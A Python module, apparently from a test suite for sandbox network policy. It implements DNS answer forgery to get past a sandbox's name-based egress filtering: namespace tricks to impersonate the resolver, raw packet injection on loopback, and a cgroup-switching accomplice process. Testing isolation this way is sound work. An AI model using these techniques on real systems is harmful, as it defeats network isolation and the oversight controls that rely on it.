# SPDX-License-Identifier: Apache-2.0
"""Ways to be believed: a sandbox that is the DNS server it asks, or speaks in its name."""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import socket
import struct
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from techniques.dns import ZONE, A, header, pack, question
from techniques.plan import Plan

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFNETMASK = 0x8914, 0x8916, 0x891C
IFF_UP = 1
ETH_P_IP = 0x0800
NAME = f"silent.{ZONE}"
"""A permitted name for which the real server says nothing."""


def in_nested_namespace(plan: Plan, to: str, how: str) -> None:
    """Become, in a network namespace of its own, the server and ask it; then connect here.

    *how*: the answer leaves by a ``socket`` bound to the server's address, or as a ``packet``.
    """

    def pretend() -> bool:
        if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), "unshare")
        _give_loopback(plan.place("resolver").host)
        if how == "socket":
            return _by_socket(plan, plan.place(to).host)
        # A packet from outside with an address of this host is dropped, else.
        Path("/proc/sys/net/ipv4/conf/all/accept_local").write_text("1")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mute:
            mute.bind(plan.place("resolver").address)
            return _by_packet(plan, plan.place(to).host)

    _connect_if_heard(plan, to, _in_child(pretend))


def on_loopback(plan: Plan, to: str) -> None:
    """Ask the real server and put a forged answer of it on this host's loopback (NET_RAW)."""
    heard = _by_packet(plan, plan.place(to).host)
    _connect_if_heard(plan, to, heard)


def by_accomplice(plan: Plan, to: str) -> None:
    """Let a process beside the sandbox take the server's address on this host (NET_ADMIN)."""
    server = plan.place("resolver").host
    _give_loopback(server)
    try:
        listener = _in_outside(plan, server)
        heard = _ask_and_hear(plan, lambda asked, peer: _accomplice(listener, plan, to))
    finally:
        _take_loopback()
    _connect_if_heard(plan, to, heard)


def _connect_if_heard(plan: Plan, to: str, heard: bool) -> None:
    with plan.open(to, socket.SOCK_STREAM) as sock:
        sock.connect(plan.place(to).address)
        if not heard:
            raise AssertionError("void: the forged answer was not heard")
        sock.sendall(plan.marker)


def _forge(asked: bytes, address: str) -> bytes:
    record = pack(NAME) + struct.pack("!HHIH", A, 1, 300, 4) + socket.inet_aton(address)
    return asked[:2] + header(0, 0x8180, (1, 1))[2:] + question(NAME) + record


def _ask_and_hear(plan: Plan, speak: Callable[[bytes, tuple[str, int]], None]) -> bool:
    """Ask, let *speak* forge the answer to the asking address, and say whether it was heard."""
    asked = header(int.from_bytes(os.urandom(2), "big")) + question(NAME)
    with suppress(OSError), plan.open("resolver", socket.SOCK_DGRAM) as client:
        client.settimeout(plan.silence_s)
        client.connect(plan.place("resolver").address)
        with suppress(PermissionError):
            client.send(asked)
        speak(asked, client.getsockname())
        return asked[:2] == client.recv(4096)[:2]
    return False


def _by_socket(plan: Plan, address: str) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(plan.place("resolver").address)
        return _ask_and_hear(plan, lambda asked, to: server.sendto(_forge(asked, address), to))


def _by_packet(plan: Plan, address: str) -> bool:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as packets:

        def speak(asked: bytes, to: tuple[str, int]) -> None:
            datagram = _datagram(plan, _forge(asked, address), to)
            packets.sendto(datagram, ("lo", ETH_P_IP))

        return _ask_and_hear(plan, speak)


def _datagram(plan: Plan, data: bytes, to: tuple[str, int]) -> bytes:
    udp = struct.pack("!4H", 53, to[1], 8 + len(data), 0) + data
    source = socket.inet_aton(plan.place("resolver").host)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0)
    head += source + socket.inet_aton(to[0])
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~total & 0xFFFF) + head[12:] + udp


def _interface_request(name: str, address: str) -> bytes:
    packed = struct.pack("=H2x4s8x", socket.AF_INET, socket.inet_aton(address))
    return struct.pack("16s16s8x", name.encode(), packed)


def _give_loopback(address: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, SIOCSIFFLAGS, struct.pack("16sH22x", b"lo", IFF_UP))
        fcntl.ioctl(sock, SIOCSIFADDR, _interface_request("lo:1", address))
        fcntl.ioctl(sock, SIOCSIFNETMASK, _interface_request("lo:1", "255.255.255.255"))


def _take_loopback() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, SIOCSIFFLAGS, struct.pack("16sH22x", b"lo:1", 0))


def _in_outside(plan: Plan, server: str) -> socket.socket:
    # A socket stays what the cgroup made it that its maker was in.
    (Path(plan.outside) / "cgroup.procs").write_text("0")
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind((server, 53))
    listener.settimeout(plan.silence_s)
    (Path(plan.cgroup) / "cgroup.procs").write_text("0")
    return listener


def _accomplice(listener: socket.socket, plan: Plan, to: str) -> None:
    asked, peer = listener.recvfrom(4096)
    listener.sendto(_forge(asked, plan.place(to).host), peer)


def _in_child(action: Callable[[], bool]) -> bool:
    readable, writable = os.pipe()
    pid = os.fork()
    if pid == 0:
        said: object = False
        try:
            said = action()
        except OSError as err:
            said = str(err)
        os.write(writable, json.dumps(said).encode())
        os._exit(0)
    os.close(writable)
    said = json.loads(os.read(readable, 4096))
    os.close(readable)
    os.waitpid(pid, 0)
    if isinstance(said, str):
        raise AssertionError(said)
    return bool(said)
